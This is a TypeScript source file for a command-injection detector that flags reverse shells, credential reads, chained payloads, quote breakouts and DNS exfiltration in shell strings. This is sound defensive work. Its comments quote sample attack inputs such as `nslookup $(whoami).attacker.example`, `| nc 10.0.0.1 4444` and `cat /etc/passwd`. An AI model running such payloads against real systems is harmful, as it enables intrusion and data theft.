import { viewCommand } from './commands.js';
import type { Finding } from './findings.js';
import { obfuscation, payloadText } from './obfuscation.js';
import { classifyPayload, listsSensitiveDir } from './payload.js';
import { hostEscape } from './escape.js';
import { startupHooks } from './persistence.js';
import { coveringTracks, credentialAccess, downloadExec, reverseShell, secretEgress } from './remote-exec.js';
import { commandName, type ShellCommand, type ShellScript, type ShellSubst, type ShellWord } from './script.js';
import { tokenizeScript } from './tokens.js';
import { isLastInSequence, ownerOf, previousOf, scriptView, viewOf, type ScriptView } from './view.js';

/**
 * findInjection lists the command-injection findings of a parsed command string: code fetched
 * and run, reverse shells, credential reads, payload commands chained after the real command,
 * command substitutions that run payloads, obfuscation, and telltale payload text.
 */
export function findInjection(script: ShellScript): Finding[] {
  const sv = scriptView(script);
  return [
    ...downloadExec(sv),
    ...reverseShell(sv),
    ...credentialAccess(sv),
    ...secretEgress(sv),
    ...coveringTracks(sv),
    ...hostEscape(sv),
    ...startupHooks(sv),
    ...chainedPayloads(sv),
    ...substitutedPayloads(sv),
    ...quoteBreakout(sv),
    ...obfuscation(sv),
    ...payloadText(script),
  ];
}

/**
 * quoteBreakout finds a quoted part glued after a value that starts with a separator and runs a
 * payload: `app.log";id;"`, `bob'|id|'`. Harmless where it lands, it is written to close the quotes
 * of a template like `cat "logs/{v}"` and run the rest.
 */
function quoteBreakout(sv: ScriptView): Finding[] {
  const out: Finding[] = [];
  for (const cmd of sv.script.commands) {
    const words = [...cmd.argv.slice(1), ...cmd.redirs.flatMap((r) => (r.target ? [r.target] : []))];
    for (const w of words) {
      const piece = w.pieces.find((p, k) => k > 0 && (p.kind === 'sgl' || p.kind === 'dbl') && /^\s*(;|&|\||\n|`|\$\()/.test(p.value));
      if (!piece) continue;
      const inner = tokenizeScript(piece.value, 'quoted');
      const payload = inner.commands.map((c) => viewCommand(c)).flatMap((v) => (v ? [classifyPayload(v)] : [])).find((p) => p !== undefined);
      if (payload) out.push({ id: 'command_injection', severity: 'high', label: `quote breakout runs ${payload.label}`, text: sv.script.source, start: w.start, end: w.end });
    }
    for (const r of cmd.redirs) {
      if (r.op === '<' && r.target && /^(id|whoami|uname|cat|ls|dir|pwd|sleep|ping|nc|wget|curl|type|net|sh|bash|ifconfig|ipconfig|netstat)$/.test(r.target.value)) {
        out.push({ id: 'command_injection', severity: 'high', label: `input redirected from command name ${r.target.value}`, text: sv.script.source, start: cmd.start, end: cmd.end });
      }
    }
  }
  return out;
}

/**
 * separatorGlued reports whether the operator before cmd touches the previous word (`alice;id`,
 * `example.org&& sleep 5`): people put spaces around `&&` and `|`, payload lists often do not.
 */
function separatorGlued(src: string, cmd: ShellCommand): boolean {
  let i = cmd.start - 1;
  while (i >= 0 && (src[i] === ' ' || src[i] === '\t')) i--;
  const opEnd = i;
  while (i >= 0 && /[;&|]/.test(src[i]!)) i--;
  if (!(i < opEnd && i >= 0 && !/[\s;&|(){}]/.test(src[i]!))) return false;
  // `a; b` is how people write; `a;b` is how payload lists do.
  return src.slice(i + 1, opEnd + 1) !== ';' || opEnd === cmd.start - 1;
}

/**
 * chainedPayloads finds a payload command run after the real one: `ping -c 4 host; id`,
 * `… && cat /etc/passwd`, `… | nc 10.0.0.1 4444`, `… & sleep 5`. Strong payloads (recon, time
 * delays at the end, raw connections) count wherever they are chained; weak ones (`ls`, `pwd`, a
 * plain `curl`) only when the chain itself looks injected: piped into a command that ignores its
 * input, run after `||`, glued to the previous word, or in a string that does not parse.
 */
function chainedPayloads(sv: ScriptView): Finding[] {
  const out: Finding[] = [];
  const src = sv.script.source;
  sv.script.commands.forEach((cmd, i) => {
    const view = sv.views[i];
    if (!view || cmd.context === 'subst') return;
    if (view.wrappers.some((w) => w === 'xargs' || w === 'parallel' || w.endsWith('-exec'))) return;
    const p = classifyPayload(view);
    if (!p) return;
    if (cmd.index === 0) {
      if (p.kind === 'code' || (p.kind === 'webshell' && p.strong)) out.push({ id: 'command_injection', severity: 'high', label: p.label, text: src, start: cmd.start, end: cmd.end });
      return;
    }
    const conn = cmd.connector;
    const glued = separatorGlued(src, cmd);
    const broken = !sv.script.parsed;
    let fire: boolean;
    if (p.kind === 'delay') fire = isLastInSequence(sv, cmd) || conn === '|' || conn === '||' || glued || broken;
    else if (p.strong) fire = true;
    else {
      const prev = previousOf(sv, cmd);
      const afterCd = prev !== undefined && commandName(prev.argv[0]) === 'cd';
      fire = broken || glued || conn === '|' || conn === '|&' || conn === '||' || (!afterCd && listsSensitiveDir(view));
    }
    if (fire) out.push({ id: 'command_injection', severity: 'high', label: `chained ${p.label}`, text: src, start: cmd.start, end: cmd.end });
  });
  return out;
}

/** What follows a substitution that makes it the first label of a host name: `.attacker.example`. */
const DNS_LABEL_AFTER = /^\.[a-z0-9-]+\.[a-z]/i;
/** inHostName: the substitution is the first label of a host name (`$(id).x.example`, `http://$(id).x.example/`), not part of a path (`/app-$(cat VERSION).tar.gz`). */
function inHostName(word: ShellWord, subst: ShellSubst): boolean {
  const before = word.raw.slice(0, subst.start - word.start);
  const after = word.raw.slice(subst.end - word.start);
  if (!DNS_LABEL_AFTER.test(after)) return false;
  const scheme = before.indexOf('://');
  return scheme >= 0 ? !before.slice(scheme + 3).includes('/') : !before.includes('/');
}

/** Commands that resolve the host names they are given. */
const LOOKUP_TOOLS = new Set(['ping', 'ping6', 'nslookup', 'dig', 'host', 'drill', 'traceroute', 'tracepath', 'whois', 'curl', 'wget', 'nc', 'ncat', 'telnet', 'ssh']);

/**
 * substitutedPayloads finds `$(…)`/backticks that run payloads: a time delay or code call anywhere,
 * a raw connection, or any payload when the substitution is glued to a value (`alice$(id)`) or
 * nested (`$(`whoami`)`). `$(pwd)` or `` `whoami` `` as a whole argument is ordinary shell.
 */
function substitutedPayloads(sv: ScriptView): Finding[] {
  const out: Finding[] = [];
  for (const subst of sv.script.substs) {
    const inner = (sv.sequences.get(subst.sequence) ?? []).map((c) => viewOf(sv, c));
    const payloads = inner.flatMap((v) => (v ? [classifyPayload(v)] : [])).filter((p) => p !== undefined);
    if (payloads.length === 0) {
      // `ping -c1 \`cat /etc/hostname\`.evil.example`: any output leaves as a DNS label when a network tool looks the name up.
      const owner = ownerOf(sv, subst);
      const tool = owner ? viewOf(sv, owner.cmd)?.name : undefined;
      if (owner && tool && LOOKUP_TOOLS.has(tool) && inHostName(owner.word, subst)) {
        out.push({ id: 'command_injection', severity: 'high', label: 'command output sent as a host name', text: sv.script.source, start: subst.start, end: owner.word.end });
      }
      continue;
    }
    const glued = /[A-Za-z0-9]$/.test(subst.prefix);
    const strong = payloads.find((p) => p.kind === 'delay' || p.kind === 'code' || p.kind === 'webshell' || (p.strong && (p.kind === 'fetch' || p.kind === 'netcat' || p.kind === 'dns')));
    const hit = strong ?? (glued || subst.nested ? payloads[0] : undefined);
    if (hit) {
      out.push({ id: 'command_injection', severity: 'high', label: `command substitution runs ${hit.label}`, text: sv.script.source, start: subst.start, end: subst.end });
      continue;
    }
    // `nslookup $(whoami).attacker.example`: the output leaves as a DNS label.
    const owner = ownerOf(sv, subst);
    if (owner && inHostName(owner.word, subst)) {
      out.push({ id: 'command_injection', severity: 'high', label: 'command output sent as a host name', text: sv.script.source, start: subst.start, end: owner!.word.end });
    }
  }
  return out;
}
